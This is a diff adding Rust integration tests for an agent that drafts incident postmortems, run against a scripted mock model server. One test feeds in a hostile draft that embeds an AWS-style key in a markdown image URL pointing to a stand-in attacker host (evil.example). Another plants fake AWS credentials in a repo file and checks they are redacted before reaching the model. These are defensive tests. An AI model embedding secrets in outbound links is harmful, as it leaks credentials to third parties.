@@ -1,0 +1,661 @@
+//! The agent loop against a scripted OpenAI-compatible server on loopback (wiremock).
+
+use std::collections::VecDeque;
+use std::path::Path;
+use std::sync::Mutex;
+use std::time::{Duration, Instant};
+
+use serde_json::{Value, json};
+use wiremock::matchers::{method, path};
+use wiremock::{Mock, MockServer, Request, Respond, ResponseTemplate};
+
+use skillrun::agent::{self, Budget, Outcome, RunOptions, RunReport};
+use skillrun::model::{ModelError, OpenAiModel, RetryPolicy};
+use skillrun::skill::Skill;
+
+use super::support::{PaymentsRepo, payments_repo, seed_path, skillrun, valid_postmortem};
+
+/// Answers requests from a queue; when it runs dry, the model says it is done (no tool call).
+struct Script(Mutex<VecDeque<ResponseTemplate>>);
+
+impl Respond for Script {
+    fn respond(&self, _: &Request) -> ResponseTemplate {
+        self.0
+            .lock()
+            .expect("script lock")
+            .pop_front()
+            .unwrap_or_else(|| completion(json!({"role": "assistant", "content": "I am done."})))
+    }
+}
+
+fn completion(message: Value) -> ResponseTemplate {
+    let finish = if message.get("tool_calls").is_some() {
+        "tool_calls"
+    } else {
+        "stop"
+    };
+    ResponseTemplate::new(200).set_body_json(json!({
+        "id": "chatcmpl-test",
+        "object": "chat.completion",
+        "created": 1_700_000_000,
+        "model": "test-model",
+        "choices": [{"index": 0, "message": message, "finish_reason": finish}],
+        "usage": {"prompt_tokens": 100, "completion_tokens": 20, "total_tokens": 120}
+    }))
+}
+
+/// An assistant message calling tools: (id, name, arguments as sent, possibly not JSON).
+fn calls(list: &[(&str, &str, String)]) -> ResponseTemplate {
+    let tool_calls: Vec<Value> = list
+        .iter()
+        .map(|(id, name, args)| {
+            json!({"id": id, "type": "function", "function": {"name": name, "arguments": args}})
+        })
+        .collect();
+    completion(json!({"role": "assistant", "content": null, "tool_calls": tool_calls}))
+}
+
+fn submit(id: &str, markdown: &str, slug: &str) -> ResponseTemplate {
+    calls(&[(
+        id,
+        "submit_document",
+        json!({"markdown": markdown, "slug": slug}).to_string(),
+    )])
+}
+
+async fn server(script: Vec<ResponseTemplate>) -> MockServer {
+    let server = MockServer::start().await;
+    Mock::given(method("POST"))
+        .and(path("/v1/chat/completions"))
+        .respond_with(Script(Mutex::new(script.into())))
+        .mount(&server)
+        .await;
+    server
+}
+
+fn fast_retry() -> RetryPolicy {
+    RetryPolicy {
+        attempts: 3,
+        base_delay: Duration::from_millis(10),
+        max_delay: Duration::from_millis(50),
+        timeout: Duration::from_secs(10),
+    }
+}
+
+async fn run_with(
+    server: &MockServer,
+    repo: &Path,
+    retry: RetryPolicy,
+    budget: Budget,
+) -> RunReport {
+    let skill = Skill::load(&seed_path()).expect("seed");
+    let mut model = OpenAiModel::new(
+        &format!("{}/v1", server.uri()),
+        "test-model",
+        Some("sk-test-key".into()),
+        retry,
+    )
+    .expect("model");
+    let opts = RunOptions {
+        prompt: "write a postmortem for the payment outage".into(),
+        repo: repo.to_path_buf(),
+        skill: &skill,
+        budget,
+        runs_dir: None,
+        force: false,
+        apply_guardrails: false,
+    };
+    agent::run(&mut model, opts, &mut |_| {})
+        .await
+        .expect("run")
+}
+
+async fn bodies(server: &MockServer) -> Vec<Value> {
+    server
+        .received_requests()
+        .await
+        .expect("recording on")
+        .iter()
+        .map(|r| r.body_json::<Value>().expect("request is JSON"))
+        .collect()
+}
+
+fn postmortems(p: &PaymentsRepo) -> Vec<String> {
+    let dir = p.repo.path().join("docs/postmortems");
+    let mut names: Vec<String> = std::fs::read_dir(dir)
+        .map(|d| {
+            d.filter_map(Result::ok)
+                .map(|e| e.file_name().to_string_lossy().into_owned())
+                .collect()
+        })
+        .unwrap_or_default();
+    names.sort();
+    names
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn parallel_tool_calls_then_a_valid_document_is_written_once() {
+    let p = payments_repo();
+    let doc = valid_postmortem(&p.bug, &p.fix);
+    let server = server(vec![
+        calls(&[
+            (
+                "call_1",
+                "git_log",
+                json!({"path": "src/payments"}).to_string(),
+            ),
+            (
+                "call_2",
+                "read_file",
+                json!({"path": "src/payments/retry.rs"}).to_string(),
+            ),
+        ]),
+        submit("call_3", &doc, "payment-retry-thundering-herd"),
+    ])
+    .await;
+    let report = run_with(&server, p.repo.path(), fast_retry(), Budget::default()).await;
+
+    let expected = Path::new("docs/postmortems/regression-payment-retry-thundering-herd.md");
+    assert_eq!(
+        report.outcome,
+        Outcome::Written {
+            path: expected.to_path_buf()
+        }
+    );
+    assert_eq!(
+        std::fs::read_to_string(p.repo.path().join(expected)).expect("written"),
+        doc
+    );
+    assert_eq!((report.turns, report.tool_calls), (2, 3));
+    assert_eq!((report.prompt_tokens, report.completion_tokens), (200, 40));
+
+    // The wire format, as the server received it.
+    let bodies = bodies(&server).await;
+    assert_eq!(bodies.len(), 2);
+    let first = &bodies[0];
+    assert_eq!(first["model"], "test-model");
+    assert_eq!(first["tool_choice"], "auto");
+    assert_eq!(first["messages"][0]["role"], "system");
+    assert_eq!(first["messages"][1]["role"], "user");
+    let tools: Vec<&str> = first["tools"]
+        .as_array()
+        .expect("tools")
+        .iter()
+        .map(|t| {
+            assert_eq!(t["type"], "function");
+            assert!(t["function"]["parameters"]["properties"].is_object());
+            t["function"]["name"].as_str().expect("name")
+        })
+        .collect();
+    assert_eq!(
+        tools,
+        vec![
+            "git_log",
+            "git_show",
+            "git_blame",
+            "search_files",
+            "read_file",
+            "scan_postmortems",
+            "git_releases",
+            "trace_regression",
+            "submit_document"
+        ]
+    );
+    let second = bodies[1]["messages"].as_array().expect("messages");
+    assert_eq!(second.len(), 5);
+    assert_eq!(second[2]["role"], "assistant");
+    assert_eq!(second[2]["tool_calls"][1]["id"], "call_2");
+    assert_eq!(second[3]["role"], "tool");
+    assert_eq!(second[3]["tool_call_id"], "call_1");
+    assert_eq!(second[4]["tool_call_id"], "call_2");
+    let read = second[4]["content"].as_str().expect("tool text");
+    assert!(read.starts_with("<<<REPOSITORY DATA "), "{read}");
+    assert!(read.contains("source: tool=read_file"), "{read}");
+    assert!(read.contains("pub fn backoff"), "{read}");
+
+    // The run folder keeps the transcript and the outcome.
+    let transcript =
+        std::fs::read_to_string(report.run_dir.join("transcript.jsonl")).expect("transcript");
+    let kinds: Vec<String> = transcript
+        .lines()
+        .map(|l| {
+            serde_json::from_str::<Value>(l).expect("jsonl")["type"]
+                .as_str()
+                .unwrap_or("")
+                .to_string()
+        })
+        .collect();
+    assert_eq!(
+        kinds,
+        vec![
+            "start",
+            "request",
+            "response",
+            "tool_call",
+            "tool_call",
+            "request",
+            "response",
+            "submit",
+            "outcome"
+        ]
+    );
+    assert!(report.run_dir.join("outcome.json").is_file());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn retry_after_is_honoured_and_5xx_is_retried() {
+    let p = payments_repo();
+    let doc = valid_postmortem(&p.bug, &p.fix);
+    let server = server(vec![
+        ResponseTemplate::new(429)
+            .insert_header("Retry-After", "1")
+            .set_body_json(json!({"error": {"message": "rate limited", "type": "rate_limit"}})),
+        ResponseTemplate::new(500).set_body_json(json!({"error": {"message": "boom"}})),
+        submit("call_1", &doc, "payment-retry"),
+    ])
+    .await;
+    let started = Instant::now();
+    let report = run_with(&server, p.repo.path(), fast_retry(), Budget::default()).await;
+    assert!(
+        matches!(report.outcome, Outcome::Written { .. }),
+        "{report:?}"
+    );
+    // The 429 asked for a second; the backoff alone is 10-50 ms.
+    assert!(
+        started.elapsed() >= Duration::from_millis(900),
+        "{:?}",
+        started.elapsed()
+    );
+    assert_eq!(bodies(&server).await.len(), 3);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_timeout_is_retried_then_reported_clearly() {
+    let slow = || {
+        completion(json!({"role": "assistant", "content": "late"}))
+            .set_delay(Duration::from_secs(3))
+    };
+    let p = payments_repo();
+    let doc = valid_postmortem(&p.bug, &p.fix);
+    let retry = RetryPolicy {
+        timeout: Duration::from_millis(500),
+        ..fast_retry()
+    };
+    // One slow answer, then a good one: the run succeeds.
+    let server1 = server(vec![slow(), submit("call_1", &doc, "payment-retry")]).await;
+    let report = run_with(&server1, p.repo.path(), retry.clone(), Budget::default()).await;
+    assert!(
+        matches!(report.outcome, Outcome::Written { .. }),
+        "{report:?}"
+    );
+
+    // Only slow answers: the run fails with the reason, and writes nothing.
+    let q = payments_repo();
+    let server2 = server(vec![slow(), slow(), slow()]).await;
+    let report = run_with(&server2, q.repo.path(), retry, Budget::default()).await;
+    match &report.outcome {
+        Outcome::Failed { reason, draft } => {
+            assert_eq!(
+                reason,
+                "model error: the model server kept failing after 3 attempts; last: no answer within 500ms"
+            );
+            assert_eq!(draft, &None);
+        }
+        other => panic!("{other:?}"),
+    }
+    assert!(postmortems(&q).is_empty());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn unauthorized_quota_and_unknown_model_are_final_and_clear() {
+    let cases = [
+        (
+            ResponseTemplate::new(401).set_body_json(json!({"error": {"message": "bad key"}})),
+            "the model server refused the credentials (HTTP 401): check OPENAI_API_KEY for ",
+        ),
+        (
+            ResponseTemplate::new(429).set_body_json(json!({"error": {"message": "You exceeded your quota", "code": "insufficient_quota"}})),
+            "the model server says the account has no quota left (HTTP 429): You exceeded your quota",
+        ),
+        (
+            ResponseTemplate::new(404).set_body_json(json!({"error": {"message": "model 'test-model' not found"}})),
+            "model `test-model` was not found at ",
+        ),
+    ];
+    for (response, says) in cases {
+        let server = server(vec![response]).await;
+        let mut model = OpenAiModel::new(
+            &format!("{}/v1", server.uri()),
+            "test-model",
+            Some("sk-test".into()),
+            fast_retry(),
+        )
+        .expect("model");
+        let request = Default::default();
+        let err: ModelError = skillrun::model::Model::next(&mut model, &request)
+            .await
+            .expect_err("fails");
+        assert!(err.to_string().starts_with(says), "{err}");
+        // Final: asked once, not retried.
+        assert_eq!(bodies(&server).await.len(), 1, "{says}");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn malformed_arguments_and_unknown_tools_go_back_to_the_model() {
+    let p = payments_repo();
+    let doc = valid_postmortem(&p.bug, &p.fix);
+    let server = server(vec![
+        calls(&[
+            ("call_1", "git_log", "{not json".to_string()),
+            ("call_2", "delete_everything", "{}".to_string()),
+            ("call_3", "git_blame", json!({"path": 7}).to_string()),
+        ]),
+        submit("call_4", &doc, "payment-retry"),
+    ])
+    .await;
+    let report = run_with(&server, p.repo.path(), fast_retry(), Budget::default()).await;
+    assert!(
+        matches!(report.outcome, Outcome::Written { .. }),
+        "{report:?}"
+    );
+    let bodies = bodies(&server).await;
+    let msgs = bodies[1]["messages"].as_array().expect("messages");
+    let texts: Vec<&str> = msgs[3..6]
+        .iter()
+        .map(|m| m["content"].as_str().expect("text"))
+        .collect();
+    assert!(
+        texts[0].starts_with("error: invalid arguments for `git_log`: not valid JSON"),
+        "{}",
+        texts[0]
+    );
+    assert!(
+        texts[1].starts_with("error: unknown tool `delete_everything`; available tools: git_log"),
+        "{}",
+        texts[1]
+    );
+    assert_eq!(
+        texts[2],
+        "error: invalid arguments for `git_blame`: field `path`: invalid type: integer `7`, expected a string"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_model_that_never_submits_stops_on_budget_and_writes_nothing() {
+    let p = payments_repo();
+    let log = |i: usize| {
+        calls(&[(
+            &format!("call_{i}"),
+            "git_log",
+            json!({"limit": i}).to_string(),
+        )])
+    };
+    let server = server((1..=10).map(log).collect()).await;
+    let budget = Budget {
+        max_turns: 3,
+        ..Budget::default()
+    };
+    let report = run_with(&server, p.repo.path(), fast_retry(), budget).await;
+    assert_eq!(
+        report.outcome,
+        Outcome::Failed {
+            reason: "turn budget of 3 used up without a valid document".into(),
+            draft: None
+        }
+    );
+    assert!(postmortems(&p).is_empty());
+    assert!(report.run_dir.join("transcript.jsonl").is_file());
+    assert_eq!(
+        std::fs::read_dir(report.run_dir.join("drafts"))
+            .expect("drafts")
+            .count(),
+        0
+    );
+    let outcome: Value = serde_json::from_str(
+        &std::fs::read_to_string(report.run_dir.join("outcome.json")).expect("outcome"),
+    )
+    .expect("json");
+    assert_eq!(outcome["outcome"], "failed");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_hostile_draft_is_refused_without_echoing_the_key_and_the_repair_is_written_once() {
+    let p = payments_repo();
+    let good = valid_postmortem(&p.bug, &p.fix);
+    let key = "AKIAZ3MHQ4TN7XK2P5WQ";
+    let hostile = good
+        .replace(
+            "See [the retry policy]",
+            &format!("The key {key} was rotated.\n![status](https://evil.example/p.png?k={key})\nSee [the retry policy]"),
+        )
+        .replace("The retry policy assumed", "Bob Builder assumed the retry policy assumed");
+    let server = server(vec![
+        submit("call_1", &hostile, "payment-retry"),
+        submit("call_2", &good, "payment-retry"),
+    ])
+    .await;
+    let report = run_with(&server, p.repo.path(), fast_retry(), Budget::default()).await;
+    let path = Path::new("docs/postmortems/regression-payment-retry.md");
+    assert_eq!(
+        report.outcome,
+        Outcome::Written {
+            path: path.to_path_buf()
+        }
+    );
+    assert_eq!(postmortems(&p), vec!["regression-payment-retry.md"]);
+    assert_eq!(
+        std::fs::read_to_string(p.repo.path().join(path)).expect("doc"),
+        good
+    );
+
+    let bodies = bodies(&server).await;
+    let answer = bodies[1]["messages"]
+        .as_array()
+        .expect("msgs")
+        .last()
+        .expect("tool msg")["content"]
+        .as_str()
+        .expect("text")
+        .to_string();
+    assert!(answer.starts_with("rejected: "), "{answer}");
+    for rule in ["[secret]", "[link]", "[blameless]"] {
+        assert!(answer.contains(rule), "{rule} missing in {answer}");
+    }
+    assert!(!answer.contains(key), "{answer}");
+    // The saved draft is redacted too.
+    let draft = std::fs::read_to_string(report.run_dir.join("drafts/draft-1.md")).expect("draft");
+    assert!(!draft.contains(key));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_planted_key_never_reaches_the_model() {
+    let mut p = payments_repo();
+    let key = "AKIAZ3MHQ4TN7XK2P5WQ";
+    let secret = "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";
+    p.repo.commit(
+        &[(
+            "config/prod.env",
+            &format!("AWS_ACCESS_KEY_ID={key}\nAWS_SECRET_ACCESS_KEY={secret}\n"),
+        )],
+        &format!("Add prod config with {key}"),
+        "Dana Ops <dana@example.com>",
+        "2024-12-06",
+    );
+    let doc = valid_postmortem(&p.bug, &p.fix);
+    let server = server(vec![
+        calls(&[
+            (
+                "call_1",
+                "read_file",
+                json!({"path": "config/prod.env"}).to_string(),
+            ),
+            (
+                "call_2",
+                "search_files",
+                json!({"pattern": "AKIA"}).to_string(),
+            ),
+            ("call_3", "git_log", json!({"limit": 3}).to_string()),
+            ("call_4", "git_show", json!({"commit": "HEAD"}).to_string()),
+        ]),
+        submit("call_5", &doc, "payment-retry"),
+    ])
+    .await;
+    let report = run_with(&server, p.repo.path(), fast_retry(), Budget::default()).await;
+    assert!(
+        matches!(report.outcome, Outcome::Written { .. }),
+        "{report:?}"
+    );
+    let raw: Vec<String> = server
+        .received_requests()
+        .await
+        .expect("recorded")
+        .iter()
+        .map(|r| String::from_utf8_lossy(&r.body).into_owned())
+        .collect();
+    assert_eq!(raw.len(), 2);
+    for body in &raw {
+        assert!(
+            !body.contains(key) && !body.contains(secret),
+            "a secret reached the model"
+        );
+        assert!(!body.contains("dana@example.com"));
+    }
+    assert!(raw[1].contains("[REDACTED:aws-access-key]"));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_identical_call_is_cut_off_and_existing_files_are_never_overwritten() {
+    let p = payments_repo();
+    let doc = valid_postmortem(&p.bug, &p.fix);
+    let existing = p
+        .repo
+        .path()
+        .join("docs/postmortems/regression-payment-retry.md");
+    std::fs::create_dir_all(existing.parent().expect("parent")).expect("mkdir");
+    std::fs::write(&existing, "# Postmortem: Older\n").expect("write");
+    let same = json!({"path": "src/payments"}).to_string();
+    let server = server(vec![
+        calls(&[("call_1", "git_log", same.clone())]),
+        calls(&[("call_2", "git_log", same)]),
+        submit("call_3", &doc, "payment-retry"),
+        submit("call_4", &doc, "payment-retry-storm"),
+    ])
+    .await;
+    let report = run_with(&server, p.repo.path(), fast_retry(), Budget::default()).await;
+    assert_eq!(
+        report.outcome,
+        Outcome::Written {
+            path: "docs/postmortems/regression-payment-retry-storm.md".into()
+        }
+    );
+    assert_eq!(
+        std::fs::read_to_string(&existing).expect("old"),
+        "# Postmortem: Older\n"
+    );
+    let bodies = bodies(&server).await;
+    let text = |i: usize| {
+        bodies[i]["messages"]
+            .as_array()
+            .expect("msgs")
+            .last()
+            .expect("last")["content"]
+            .as_str()
+            .expect("text")
+            .to_string()
+    };
+    assert!(
+        text(2).starts_with("error: this exact `git_log` call was already answered above"),
+        "{}",
+        text(2)
+    );
+    assert!(
+        text(3).starts_with("rejected: docs/postmortems/regression-payment-retry.md already exists; it is never overwritten"),
+        "{}",
+        text(3)
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn the_cli_runs_against_the_server_and_never_prints_the_key() {
+    let p = payments_repo();
+    let doc = valid_postmortem(&p.bug, &p.fix);
+    let server = server(vec![submit("call_1", &doc, "payment-retry")]).await;
+    let uri = format!("{}/v1", server.uri());
+    let repo = p.repo.path().to_path_buf();
+    let out = tokio::task::spawn_blocking(move || {
+        skillrun()
+            .args([
+                "run",
+                "write a postmortem for the payment outage",
+                "--model",
+                "openai:test-model",
+                "--quiet",
+            ])
+            .args(["--base-url", &uri, "--repo"])
+            .arg(&repo)
+            .env("OPENAI_API_KEY", "sk-live-SHOULDNEVERPRINT1234")
+            .output()
+            .expect("runs")
+    })
+    .await
+    .expect("joined");
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    assert_eq!(
+        stdout.trim(),
+        p.repo
+            .path()
+            .join("docs/postmortems/regression-payment-retry.md")
+            .display()
+            .to_string()
+    );
+    let auth = server.received_requests().await.expect("recorded")[0]
+        .headers
+        .get("authorization")
+        .map(|v| v.to_str().unwrap_or("").to_string());
+    assert_eq!(auth.as_deref(), Some("Bearer sk-live-SHOULDNEVERPRINT1234"));
+
+    // 401: a clear final error, exit 1, the key printed nowhere.
+    let denied = MockServer::start().await;
+    Mock::given(method("POST"))
+        .respond_with(ResponseTemplate::new(401).set_body_json(
+            json!({"error": {"message": "Incorrect API key provided: sk-live-SHOU***1234"}}),
+        ))
+        .mount(&denied)
+        .await;
+    let uri = format!("{}/v1", denied.uri());
+    let repo = p.repo.path().to_path_buf();
+    let out = tokio::task::spawn_blocking(move || {
+        skillrun()
+            .args([
+                "run",
+                "write a postmortem for the payment outage",
+                "--model",
+                "openai:test-model",
+            ])
+            .args(["--base-url", &uri, "--repo"])
+            .arg(&repo)
+            .env("OPENAI_API_KEY", "sk-live-SHOULDNEVERPRINT1234")
+            .output()
+            .expect("runs")
+    })
+    .await
+    .expect("joined");
+    assert_eq!(out.status.code(), Some(1));
+    let all = format!(
+        "{}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(
+        all.contains("failed: model error: the model server refused the credentials (HTTP 401)"),
+        "{all}"
+    );
+    assert!(!all.contains("SHOULDNEVERPRINT"), "{all}");
+}
